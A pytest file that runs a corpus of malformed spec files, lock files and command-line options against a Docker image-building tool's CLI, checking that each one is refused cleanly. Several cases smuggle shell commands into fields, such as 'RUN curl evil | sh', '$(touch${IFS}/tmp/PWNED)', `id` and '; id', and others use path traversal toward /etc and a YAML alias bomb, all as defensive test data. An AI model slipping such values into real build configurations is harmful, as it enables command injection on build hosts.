"""A corpus of broken inputs, run against the real command line: every one ends with a message
naming the file (or option) and key, a non-zero exit, no traceback, and no hang.

Cases are (name, how to make the input, command, text the error must contain).
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import pytest

from manyforge.spec import DEFAULT_LOCK, DEFAULT_SPEC, SpecError, load_spec

ROOT = Path(__file__).resolve().parents[2]
GOOD = DEFAULT_SPEC.read_text()


def edit(old: str, new: str, count: int = 1) -> Callable[[Path], Path]:
    """A case whose images.yaml is the real one with one edit."""
    assert old in GOOD, old

    def make(tmp: Path) -> Path:
        path = tmp / "images.yaml"
        path.write_text(GOOD.replace(old, new, count))
        return path

    return make


def raw(data: bytes) -> Callable[[Path], Path]:
    def make(tmp: Path) -> Path:
        path = tmp / "images.yaml"
        path.write_bytes(data)
        return path

    return make


def fifo(tmp: Path) -> Path:
    path = tmp / "images.yaml"
    os.mkfifo(path)
    return path


def directory(tmp: Path) -> Path:
    path = tmp / "images.yaml"
    path.mkdir()
    return path


def huge(tmp: Path) -> Path:
    path = tmp / "images.yaml"
    with path.open("wb") as fh:
        fh.truncate(64 << 20)
    return path


BOMB = b"a: &a [x,x,x,x,x,x,x,x,x,x]\n" + b"".join(
    f"{n}: &{n} [{', '.join(['*' + p] * 10)}]\n".encode() for p, n in zip("abcdefg", "bcdefgh", strict=True)
)

SPEC_CASES = [
    ("not-utf8", raw(GOOD.encode()[:200] + b"\xff\xfe\n"), "images.yaml: not UTF-8"),
    ("empty", raw(b""), "images.yaml: the top level must be a mapping"),
    ("top-level-list", raw(b"- a\n- b\n"), "images.yaml: the top level must be a mapping"),
    ("directory", directory, "images.yaml: not a regular file"),
    ("fifo", fifo, "images.yaml: not a regular file"),
    ("huge", huge, "larger than the limit"),
    ("alias-bomb", raw(BOMB), "images.yaml: expands to more than"),
    ("not-yaml", raw(b"images: [unclosed\n"), "not valid YAML"),
    ("duplicate-key", edit("  manylinux_2_31:\n", "  manylinux_2_36:\n"), "duplicate key 'manylinux_2_36'"),
    ("unquoted-version", edit('cp310-cp310: {cpython: "3.10.20"}', "cp310-cp310: {cpython: 3.10}"),
     'interpreters.cp310-cp310.cpython: Input should be a valid string (line'),
    ("unquoted-bool", edit("free_threaded: true}", "free_threaded: 1}"), "interpreters.cp313-cp313t.free_threaded"),
    ("newline-prefix", edit("prefix: /opt/rh/devtoolset-10/root/usr", 'prefix: "/opt/x\\nRUN curl evil | sh"'),
     "toolchains.devtoolset-10.prefix"),
    ("space-in-package", edit("packages: [libffi8, libssl3]", 'packages: [libffi8, "libssl3 && evil"]'),
     "bases.debian12.packages[1]"),
    ("newline-in-url", edit("url: https://www.python.org/ftp/python/3.9.2/Python-3.9.2.tar.xz",
                            'url: "https://www.python.org/ftp/python/3.9.2/Python-3.9.2.tar.xz\\nRUN x"'),
     "cpython.3.9.2.url"),
    ("free-threaded-3.12", edit("cp312-cp312: {cpython: \"3.12.13\"}", "cp312-cp312t: {cpython: \"3.12.13\", free_threaded: true}"),
     "interpreters.cp312-cp312t.free_threaded: CPython builds free-threaded from 3.13 on"),
    ("url-version-mismatch", edit("ftp/python/3.10.20/Python-3.10.20.tar.xz", "ftp/python/3.10.18/Python-3.10.18.tar.xz"),
     "cpython.3.10.20.url: names Python-3.10.18.tar.xz"),
    ("org-not-a-reference", edit("org: manyforge", "org: Many_Forge!"), "images.yaml: org:"),
    ("image-not-a-reference", edit("  manylinux_2_31:\n    policy", "  Manylinux 2 31:\n    policy"), "images.yaml: images.Manylinux 2 31"),
    ("policy-not-in-policies", edit("policy: manylinux_2_31\n", "policy: manylinux_2_33\n"), "manylinux_2_33"),
    ("unknown-arch", edit("archs: [x86_64, i686, aarch64, armv7l]\n", "archs: [x86_64, sparc64]\n"),
     "images.manylinux_2_31.archs[1]: 'sparc64' is not allowed"),
    ("interpreters-not-a-list", edit("interpreters: [cp39-cp39, cp310-cp310, cp311-cp311, cp312-cp312, cp313-cp313, cp313-cp313t,\n"
                                     "                 cp314-cp314, cp314-cp314t, cp315-cp315, cp315-cp315t]", "interpreters: cp39-cp39"),
     "defaults.interpreters"),
    ("unknown-tool", edit("optional_tools: [cmake, ninja, uv]\n", "optional_tools: [cmake, ninja, uv, mystery]\n"),
     "images.manylinux2014.optional_tools[3]: unknown tool 'mystery'"),
    ("bad-download-sha", edit("sha256: c73ac2cc2380ac9227fd297482bf2a3e17a80618ba46db7544d535515321ec1e", "sha256: nothex"),
     "downloadable.pp310-pypy310_pp73.files.x86_64.sha256"),
    ("bad-frontend-specifier", edit('build: ">=1.4.4"', 'build: "newest, please"'), "frontend.build"),
    ("tag-mismatch", edit('cp312-cp312: {cpython: "3.12.13"}', 'cp312-cp312: {cpython: "3.13.15"}'),
     "interpreters.cp312-cp312: tag does not match CPython 3.13.15"),
    ("unknown-key", edit("    toolchain: debian-gcc-10\n", "    toolchain: debian-gcc-10\n    tolchain: x\n"),
     "images.manylinux_2_31.tolchain: unknown key"),
    ("long-value-is-cut", edit("org: manyforge", "org: " + "x" * 200_000), "chars)"),
    # Issue 17's classes: injection, traversal, references Docker refuses, keys that would be ignored.
    ("repo-file-injection", edit("i686: https://copr.fedorainfracloud.org/coprs/mayeut/devtoolset-10/repo/custom-1/",
                                 "i686: https://copr.example/$(touch${IFS}/tmp/PWNED)/"), "toolchains.devtoolset-10.repo_files.i686"),
    ("repo-file-backtick", edit("mayeut-devtoolset-10-custom-1.repo", "`id`.repo"), "toolchains.devtoolset-10.repo_files.i686"),
    ("repo-file-dotdot", edit("custom-1/mayeut-devtoolset-10-custom-1.repo", "custom-1/.."), "toolchains.devtoolset-10.repo_files.i686"),
    ("url-dotdot", edit("https://github.com/openssl/openssl/releases/download/openssl-3.5.7/openssl-3.5.7.tar.gz",
                        "https://github.com/openssl/.."), "libraries.openssl.url"),
    ("url-dot-lock", edit("https://github.com/openssl/openssl/releases/download/openssl-3.5.7/openssl-3.5.7.tar.gz",
                          "https://github.com/openssl/.lock"), "libraries.openssl.url"),
    ("url-query", edit("https://github.com/openssl/openssl/releases/download/openssl-3.5.7/openssl-3.5.7.tar.gz",
                       "https://github.com/x?a=1&b=2/openssl-3.5.7.tar.gz"), "libraries.openssl.url"),
    ("prefix-dotdot", edit("prefix: /opt/rh/devtoolset-10/root/usr", "prefix: /opt/rh/../../../usr"), "toolchains.devtoolset-10.prefix"),
    ("base-ref-traversal", edit("image: centos:7@sha256", "image: a/../../x@sha256"), "bases.centos7.image"),
    ("base-ref-uppercase", edit("image: centos:7@sha256", "image: CentOS:7@sha256"), "bases.centos7.image"),
    ("suite-plus", edit("debootstrap: bookworm", "debootstrap: bookworm+x"), "bases.debian12.debootstrap"),
    ("suite-option", edit("debootstrap: bookworm", 'debootstrap: "--print-debs"'), "bases.debian12.debootstrap"),
    ("base-name-uppercase", edit("  debian12:\n    family: apt", "  Debian12:\n    family: apt"), "bases.Debian12"),
    ("library-twice", edit("libraries: [openssl, sqlite, zstd]\n    # git 1.8.3", "libraries: [openssl, sqlite, openssl]\n    # git 1.8.3"),
     "bases.centos7: libraries: listed twice: openssl"),
    ("package-twice", edit("packages: [libffi8, libssl3]", "packages: [libffi8, libffi8]"), "listed twice: libffi8"),
    ("mirror-on-apt", edit("    packages: [libffi8, libssl3]", "    packages: [libffi8, libssl3]\n    mirror: https://example.org"),
     "bases.debian12.mirror: family apt does not use it"),
    ("repositories-on-yum", edit("    mirror: https://vault.centos.org", "    mirror: https://vault.centos.org\n    repositories: [x]"),
     "bases.centos7.repositories: family yum does not use it"),
    ("repo-files-on-dnf", edit("  gcc-toolset-13:\n    family: dnf\n", "  gcc-toolset-13:\n    family: dnf\n    repo_files: {x86_64: https://example.org/x.repo}\n"),
     "toolchains.gcc-toolset-13: repo_files: family dnf does not use it"),
    ("cross-on-apk", edit("  alpine-gcc-14:\n    family: apk\n", "  alpine-gcc-14:\n    family: apk\n    cross: gcc-14\n"),
     "toolchains.alpine-gcc-14: cross: family apk does not use it"),
    ("toolchain-of-another-family", edit("    toolchain: debian-gcc-10\n", "    toolchain: alpine-gcc-14\n"),
     "images.manylinux_2_31.toolchain: toolchain 'alpine-gcc-14' is of family apk, the image's base of apt"),
    ("variant-is-own-base", edit("    base_variants: [ubi9]", "    base_variants: [ubi9, almalinux9]"),
     "images.manylinux_2_34.base_variants: 'almalinux9' is the image's own base"),
    ("march-arch-missing", edit("march: {x86_64: x86-64}  # EL9", "march: {x86_64: x86-64, riscv64: rv64gc}  # EL9"),
     "bases.almalinux9.march.riscv64: the base has no riscv64"),
    ("emulated-arch-missing", edit("    packages: [libffi8, libssl3]", "    packages: [libffi8, libssl3]\n    emulated: [riscv64]"),
     "bases.debian12.emulated.riscv64: the base has no riscv64"),
    ("repo-file-arch-unused", edit("    repo_files:\n      i686:", "    repo_files:\n      s390x:"),
     "toolchains.devtoolset-10.repo_files.s390x: no image using the toolchain has s390x"),
    ("base-image-port", edit("image: centos:7@sha256", "image: 127.0.0.1:99999/centos:7@sha256"), "port 99999 is not in 1-65535"),
    ("toolchain-name-uppercase", edit("  debian-gcc-12:\n", "  Debian-GCC-12:\n"), "toolchains.Debian-GCC-12"),
    ("empty-frontend-specifier", edit('build: ">=1.4.4"', 'build: ""'), "frontend.build"),
    ("huge-int", edit("org: manyforge", "org: " + "9" * 5000), "images.yaml: a value YAML cannot read"),
    ("complex-key", edit("org: manyforge", "org: manyforge\n? [a, b]\n: c"), "a key must be a plain name"),
    ("two-merge-keys", edit("  manylinux_2_31:\n    policy: manylinux_2_31\n",
                            "  manylinux_2_31:\n    <<: {archs: [x86_64]}\n    <<: {archs: [i686]}\n    policy: manylinux_2_31\n"),
     "a second merge key"),
    ("control-char-in-key", edit("org: manyforge", "org: manyforge\n\"x\\e[2J\": 1"), "x\\x1b[2J"),
    ("march-native", edit("march: {x86_64: x86-64}  # EL9", "march: {x86_64: native}  # EL9"), "bases.almalinux9.march.x86_64: 'native'"),
    ("port-out-of-range", edit("mirror: https://vault.centos.org", "mirror: https://vault.centos.org:99999"), "port 99999 is not in 1-65535"),
    ("unicode-digits", edit('cp310-cp310: {cpython: "3.10.20"}', 'cp310-cp310: {cpython: "3.10.２0"}'), "interpreters.cp310-cp310.cpython"),
    ("downloadable-python-mismatch", edit('version: "7.3.19"\n    python: "3.10"', 'version: "7.3.19"\n    python: "3.11"'),
     "downloadable.pp310-pypy310_pp73: python: 3.11 does not match the tag"),
    ("downloadable-implementation", edit('  pp310-pypy310_pp73:\n    implementation: pypy', '  pp310-pypy310_pp73:\n    implementation: graalpy'),
     "downloadable.pp310-pypy310_pp73: implementation: graalpy does not match"),
    ("tool-version-not-locked", edit('tool_versions: {cmake: "4.0.3"', 'tool_versions: {cmake: "9.9.9"'),
     "no arch of the image has a pin for cmake==9.9.9"),
    ("deep-nesting", raw(b"a: " + b"[" * 20000 + b"]" * 20000 + b"\n"), "images.yaml: nested too deeply"),
    # From-source tools and git-lfs's release archives (issue 19, item 5).
    ("source-tool-unknown", edit("source_tools: [git, autoconf, automake, libtool]  # EL8", "source_tools: [git, cmake]  # EL8"),
     "bases.almalinux8.source_tools[1]: 'cmake' is not allowed"),
    ("source-tool-unpinned", edit("  libtool:\n    # [debian] trixie", "  libtool-gone:\n    # [debian] trixie"),
     "source_tools.libtool-gone.[key]: 'libtool-gone' is not allowed"),
    ("source-tool-not-pinned", edit("  tk:\n    # [pypa] TK_HASH = [debian] forky's tk8.6_8.6.18.orig.tar.gz (upstream's file unchanged).\n"
                                    "    version: \"8.6.18\"\n    url: https://prdownloads.sourceforge.net/tcl/tk8.6.18-src.tar.gz\n"
                                    "    debian: pool/main/t/tk8.6/tk8.6_8.6.18.orig.tar.gz\n"
                                    "    sha256: 95cd528a80f5e4bdb557af9b14a7197d6860793a3894e25e7c9fad2ed05d4c3c\n", ""),
     "bases.centos7.source_tools[7]: 'tk' has no pinned source under source_tools"),
    ("tk-without-tcl", edit("source_tools: [libxcrypt, curl, git, autoconf, automake, libtool, tcl, tk]", "source_tools: [libxcrypt, curl, git, autoconf, automake, libtool, tk]"),  # noqa: E501
     "bases.centos7.source_tools[6]: tk is built against tcl: list tcl too"),
    ("source-tool-twice", edit("source_tools: [git, autoconf, automake, libtool]  # EL8", "source_tools: [git, git]  # EL8"),
     "bases.almalinux8: source_tools: listed twice: git"),
    ("source-tool-url-substitution", edit("https://www.kernel.org/pub/software/scm/git/git-2.55.0.tar.xz",
                                          "https://www.kernel.org/pub/$(id)/git-2.55.0.tar.xz"), "source_tools.git.url"),
    ("source-tool-debian-traversal", edit("debian: pool/main/g/git/git_2.55.0.orig.tar.xz", "debian: pool/main/g/../../etc/git.tar.xz"),
     "source_tools.git.debian"),
    ("source-tool-bad-sha", edit("sha256: 457fdb04dc8728e007d4688695e6912e6f680727920f2a40bf11eacc17505357", "sha256: 457fdb04"),
     "source_tools.git.sha256"),
    ("git-lfs-arch-missing", edit("    ppc64le:\n      url: https://github.com/git-lfs/", "    riscv64x:\n      url: https://github.com/git-lfs/"),
     "git_lfs.files.riscv64x"),
    ("git-lfs-arch-not-pinned", edit("    ppc64le:\n      url: https://github.com/git-lfs/git-lfs/releases/download/v3.7.1/git-lfs-linux-ppc64le-v3.7.1.tar.gz\n"
                                     "      sha256: 100fbefdd86722dafd56737121510289ece9574c7bb8ec01b4633f8892acc427\n", ""),
     "bases.centos7.git_lfs_release: git_lfs.files has no archive for ppc64le"),
    ("git-lfs-other-version", edit("download/v3.7.1/git-lfs-linux-s390x-v3.7.1.tar.gz", "download/v3.7.1/git-lfs-linux-s390x-v3.6.0.tar.gz"),
     "git_lfs: files.s390x: git-lfs-linux-s390x-v3.6.0.tar.gz is not a file of git-lfs 3.7.1"),
    ("git-lfs-not-an-archive", edit("git-lfs-linux-s390x-v3.7.1.tar.gz", "git-lfs-linux-s390x-v3.7.1.sh"), "git_lfs.files.s390x.url"),
    ("debian-tool-not-pinned", edit("debian_tools: [autoconf, automake]\n  debian12:", "debian_tools: [autoconf, m4]\n  debian12:"),
     "bases.debian11.debian_tools[1]: 'm4' has no pinned package under debian_tools"),
    ("debian-tool-arch-missing", edit("      all: {debian: pool/main/a/automake/automake_1.19-3_all.deb, sha256: 06045171f581ef2e31967b7ea1aa0400545ed60960043df881f384f0d991447a}", "      x86_64: {debian: pool/main/a/automake/automake_1.19-3_amd64.deb, sha256: 06045171f581ef2e31967b7ea1aa0400545ed60960043df881f384f0d991447a}"),  # noqa: E501
     "bases.debian11.debian_tools[1]: debian_tools.automake.files has no package for i686, aarch64, armv7l"),
    ("debian-tool-wrong-arch-file", edit("      all: {debian: pool/main/a/automake/automake_1.19-3_all.deb, sha256: 06045171f581ef2e31967b7ea1aa0400545ed60960043df881f384f0d991447a}", "      s390x: {debian: pool/main/a/automake/automake_1.19-3_amd64.deb, sha256: 06045171f581ef2e31967b7ea1aa0400545ed60960043df881f384f0d991447a}"),  # noqa: E501
     "debian_tools.automake: files.s390x: automake_1.19-3_amd64.deb is not version 1.19-3 for s390x"),
    ("debian-tool-other-version", edit('version: "2.73-2"  # pypa', 'version: "2.72-3"  # pypa'),
     "files.all: autoconf_2.73-2_all.deb is not version 2.72-3 for all"),
    ("debian-tool-all-and-arch", edit("      all: {debian: pool/main/a/autoconf/autoconf_2.73-2_all.deb, sha256: f3dcec36043a45b2644c4da94087bb965ec2460d94d9bd4b786703cdcd9ea676}\n",  # noqa: E501
                                      "      all: {debian: pool/main/a/autoconf/autoconf_2.73-2_all.deb, sha256: f3dcec36043a45b2644c4da94087bb965ec2460d94d9bd4b786703cdcd9ea676}\n"  # noqa: E501
                                      "      s390x: {debian: pool/main/a/autoconf/autoconf_2.73-2_s390x.deb, sha256: f3dcec36043a45b2644c4da94087bb965ec2460d94d9bd4b786703cdcd9ea676}\n"),  # noqa: E501
     "files: an architecture-independent package has the one file 'all'"),
    ("debian-tool-not-a-deb", edit("pool/main/a/autoconf/autoconf_2.73-2_all.deb", "pool/main/a/autoconf/autoconf_2.73-2_all.sh"), "debian_tools.autoconf.files.all.debian"),  # noqa: E501
    ("debian-tool-traversal", edit("pool/main/a/automake/automake_1.19-3_all.deb", "pool/main/a/../../../etc/automake_1.19-3_all.deb"), "debian_tools.automake.files.all.debian"),  # noqa: E501
    ("debian-tool-version-injection", edit('version: "1:1.19-3"  # newer', 'version: "1:1.19-3; id"  # newer'), "debian_tools.automake.version"),
    ("debian-tool-on-rhel", edit("    source_tools: [git, autoconf, automake, libtool]  # EL8", "    debian_tools: [autoconf]\n    source_tools: [git, autoconf, automake, libtool]  # EL8"),  # noqa: E501
     "bases.almalinux8.debian_tools: family dnf does not use it (only apt)"),
    ("toolset-first-without-toolset", edit("    toolchain: debian-gcc-12\n", "    toolchain: debian-gcc-12\n    toolset_first_on_path: true\n"),
     "images.manylinux_2_36.toolset_first_on_path: toolchain 'debian-gcc-12' installs into /usr (no prefix)"),
    ("toolset-first-with-march", edit("    toolchain: gcc-toolset-14\n    toolchain_variants", "    toolchain: gcc-toolset-14\n    toolset_first_on_path: true\n    toolchain_variants"),  # noqa: E501
     "images.manylinux_2_34.toolset_first_on_path: base 'almalinux9' wraps the compilers in /usr/local/bin (march), which must stay first"),
    ("git-lfs-release-not-bool", edit("    git_lfs_release: true\n  almalinux8:", "    git_lfs_release: \"yes\"\n  almalinux8:"),
     "bases.centos7.git_lfs_release"),
]


def run_invoke(*args: str, env: dict[str, str] | None = None, timeout: int = 60) -> subprocess.CompletedProcess:
    return subprocess.run(
        [sys.executable, "-m", "invoke", *args], cwd=ROOT, env={**os.environ, **(env or {})},
        capture_output=True, text=True, check=False, timeout=timeout,
    )  # fmt: skip


@pytest.mark.parametrize(("make", "expected"), [c[1:] for c in SPEC_CASES], ids=[c[0] for c in SPEC_CASES])
def test_broken_images_yaml_is_refused_by_the_cli(tmp_path, make, expected):
    spec = make(tmp_path)
    proc = run_invoke("render", "--spec", str(spec), timeout=30)  # a hang fails here
    assert proc.returncode != 0
    assert "Traceback" not in proc.stderr, proc.stderr
    assert expected in proc.stderr, proc.stderr
    for line in proc.stderr.splitlines():
        assert len(line) < 600, f"a message quotes too much: {line[:200]}..."


def test_merge_keys_are_accepted(tmp_path):
    spec = edit("  manylinux_2_31:\n    policy: manylinux_2_31\n",
                "  manylinux_2_31:\n    <<: {tools_interpreter: cp39-cp39, archs: [x86_64]}\n    policy: manylinux_2_31\n")(tmp_path)  # fmt: skip
    proc = run_invoke("render", "--spec", str(spec), "--image", "manylinux_2_31", "--output", "-")
    assert proc.returncode == 0, proc.stderr


OPTION_CASES = [
    ("python-empty", ["build", "--python", ","], {}, "--python: empty"),
    ("image-empty", ["build", "--image", ""], {}, "--image: empty"),
    ("arch-unknown", ["build", "--arch", "sparc64"], {}, "unknown arch 'sparc64' for image manylinux_2_36"),
    ("arch-empty", ["render", "--arch", ""], {}, "unknown arch ''"),
    ("python-unknown", ["build", "--python", "cp27-cp27mu"], {}, "unknown interpreter(s) cp27-cp27mu"),
    ("origin-unknown", ["fetch", "--origin", "somewhere"], {}, "--origin 'somewhere': unknown"),
    ("mirror-not-a-url", ["fetch", "--image", "manylinux_2_36", "--arch", "x86_64", "--mirror", "not a url"], {},
     "--mirror 'not a url': not an http(s):// or file:// address"),
    ("from-dir-missing", ["fetch", "--from-dir", "/nonexistent/dir"], {}, "--from-dir /nonexistent/dir: not a directory"),
    ("output-directory", ["render", "--output", "/"], {}, "--output /: is a directory"),
    ("output-full-device", ["render", "--output", "/dev/full"], {}, "--output /dev/full: cannot write (No space left on device)"),
    ("cache-is-a-file", ["fetch", "--image", "manylinux_2_36", "--arch", "x86_64"], {"MANYFORGE_CACHE": "/etc/hostname"},
     "source cache /etc/hostname"),
    ("spec-env-missing", ["render"], {"MANYFORGE_SPEC": "/nonexistent/images.yaml"}, "/nonexistent/images.yaml: cannot read"),
    ("policy-action", ["policy", "frobnicate"], {}, "unknown action 'frobnicate'"),
    ("publish-no-key", ["publish", "--registry", "127.0.0.1:5000/x"], {}, "--key (or MANYFORGE_COSIGN_KEY)"),
    ("publish-key-missing", ["publish", "--registry", "127.0.0.1:5000/x", "--key", "/nonexistent.key"], {}, "--key /nonexistent.key"),
    ("publish-bad-registry", ["publish", "--registry", "not a registry", "--key", "/etc/hostname"], {}, "--registry 'not a registry'"),
    ("publish-bad-tag", ["publish", "--registry", "127.0.0.1:5000/x", "--key", "/etc/hostname", "--tag", "v1"], {}, "--tag 'v1'"),
    ("publish-index-only-no-tag", ["publish", "--registry", "127.0.0.1:5000/x", "--key", "/etc/hostname", "--index-only"], {},
     "--index-only needs --tag"),
    ("changelog-no-key", ["changelog", "--registry", "127.0.0.1:5000/x", "--from-tag", "a", "--to-tag", "b"], {}, "--public-key"),
    ("changelog-format", ["changelog", "--registry", "h/n", "--from-tag", "a", "--to-tag", "b", "--public-key", "p", "--format", "xml"],
     {}, "--format 'xml'"),
    ("policy-dumps-missing", ["policy", "derive", "--dumps", "/nonexistent.json"], {}, "/nonexistent.json"),
    ("policy-suite-traversal", ["policy", "dump", "--suite", "../../../../tmp/evil"], {}, "--suite '../../../../tmp/evil': not a Debian suite"),
    ("policy-suite-option", ["policy", "dump", "--suite=--print-debs"], {}, "--suite '--print-debs': not a Debian suite"),
    ("policy-suite-plus", ["policy", "dump", "--suite", "bookworm+x"], {}, "not a Debian suite"),
]


@pytest.mark.parametrize(("args", "env", "expected"), [c[1:] for c in OPTION_CASES], ids=[c[0] for c in OPTION_CASES])
def test_broken_options_are_refused(args, env, expected):
    proc = run_invoke(*args, env=env, timeout=120)
    assert proc.returncode != 0
    assert "Traceback" not in proc.stderr, proc.stderr
    assert expected in proc.stderr, proc.stderr


def test_matrix_into_a_closed_pipe_is_quiet():
    proc = subprocess.run(
        f"{sys.executable} -m invoke matrix | head -c 1", shell=True, cwd=ROOT, capture_output=True, text=True, check=False
    )
    assert "Traceback" not in proc.stderr and "Broken pipe" not in proc.stderr, proc.stderr


LOCK_CASES = [
    ("not-json", lambda lock, p: p.write_text("{"), "wheels.lock.json: line 1: not valid JSON"),
    ("not-utf8", lambda lock, p: p.write_bytes(b'{"platforms": "\xff"}'), "not UTF-8"),
    ("directory", lambda lock, p: p.mkdir(), "not a regular file"),
    ("wrong-type", lambda lock, p: p.write_text(json.dumps({**lock, "platforms": []})), "wheels.lock.json: platforms"),
    ("sha-type", lambda lock, p: (lock["platforms"]["manylinux_2_36_x86_64"][0].update(sha256=12), p.write_text(json.dumps(lock))),
     "wheels.lock.json: platforms.manylinux_2_36_x86_64[0].sha256"),
    ("traversal", lambda lock, p: (lock["platforms"]["manylinux_2_36_x86_64"][0].update(filename="../../x.whl"), p.write_text(json.dumps(lock))),
     "wheels.lock.json: platforms.manylinux_2_36_x86_64[0].filename"),
    ("newline-name", lambda lock, p: (lock["interpreters"]["cp39-cp39"][0].update(filename="build-1.4.4-py3-none-any.whl\nRUN x"),
                                      p.write_text(json.dumps(lock))), "wheels.lock.json: interpreters.cp39-cp39[0].filename"),
    ("wrong-version", lambda lock, p: (lock["interpreters"]["cp39-cp39"][0].update(version="9.9"), p.write_text(json.dumps(lock))),
     "is not build 9.9"),
    ("duplicate", lambda lock, p: (lock["interpreters"]["cp39-cp39"].append(lock["interpreters"]["cp39-cp39"][0]),
                                   p.write_text(json.dumps(lock))), "interpreters.cp39-cp39: listed twice"),
    ("unknown-key", lambda lock, p: p.write_text(json.dumps({**lock, "extra": 1})), "wheels.lock.json: extra: unknown key"),
    ("duplicate-key", lambda lock, p: p.write_text(json.dumps(lock).replace('"interpreters": {', '"interpreters": {"cp39-cp39": [], ', 1)),
     "wheels.lock.json: duplicate key 'cp39-cp39'"),
    ("two-hashes", lambda lock, p: (lock["interpreters"]["cp311-cp311"].__setitem__(
        0, {**lock["interpreters"]["cp311-cp311"][0], "sha256": "0" * 64}), p.write_text(json.dumps(lock))), "pinned with 2 different sha256"),
    ("deep-nesting", lambda lock, p: p.write_text("[" * 100_000 + "]" * 100_000), "wheels.lock.json: nested too deeply"),
    ("unknown-arch", lambda lock, p: p.write_text(json.dumps({**lock, "platforms": {**lock["platforms"], "manylinux_2_36_sparc": []}})),
     "platforms.manylinux_2_36_sparc: sparc is not an architecture"),
    ("huge-int", lambda lock, p: p.write_text('{"comment": ' + "9" * 5000 + "}"), "wheels.lock.json: not a lock"),
    ("missing", lambda lock, p: None, "wheels.lock.json: cannot read (No such file or directory)"),
]


@pytest.mark.parametrize(("make", "expected"), [c[1:] for c in LOCK_CASES], ids=[c[0] for c in LOCK_CASES])
def test_broken_lock_is_refused(tmp_path, make, expected):
    lock = json.loads(DEFAULT_LOCK.read_text())
    path = tmp_path / "wheels.lock.json"
    make(lock, path)
    with pytest.raises(SpecError) as err:
        load_spec(DEFAULT_SPEC, lock_path=path)
    assert any(expected in p for p in err.value.problems), err.value.problems


TEST_ENV_CASES = [
    ({"MANYFORGE_TEST_TARGETS": "nope"}, "MANYFORGE_TEST_TARGETS: 'nope' is not image:arch"),
    ({"MANYFORGE_TEST_TARGETS": "manylinux_2_36:sparc64"}, "unknown arch 'sparc64'"),
    ({"MANYFORGE_TEST_IMAGE": "bogus"}, "MANYFORGE_TEST_IMAGE='bogus': unknown image 'bogus'"),
    ({"MANYFORGE_TEST_ARCHES": "x86_64,zz"}, "unknown arch 'zz'"),
    ({"MANYFORGE_TEST_TARGETS": "manylinux_2_36:x86_64:cp27-cp27m"}, "unknown interpreter(s) cp27-cp27m"),
    ({"MANYFORGE_SPEC": "/nonexistent/images.yaml"}, "MANYFORGE_SPEC='/nonexistent/images.yaml'"),
]


@pytest.mark.parametrize(("env", "expected"), TEST_ENV_CASES, ids=[next(iter(c[0].values())) for c in TEST_ENV_CASES])
def test_broken_test_settings_are_one_usage_error(env, expected):
    """The test suite's own settings: a mistake is pytest's usage error naming the variable."""
    proc = subprocess.run(
        [sys.executable, "-m", "pytest", "--collect-only", "-q", "-p", "no:cacheprovider", "tests/image"],
        cwd=ROOT, env={**os.environ, **env}, capture_output=True, text=True, check=False, timeout=60,
    )  # fmt: skip
    output = proc.stdout + proc.stderr
    assert proc.returncode == 4, output
    assert "Traceback" not in output, output
    assert expected in output, output
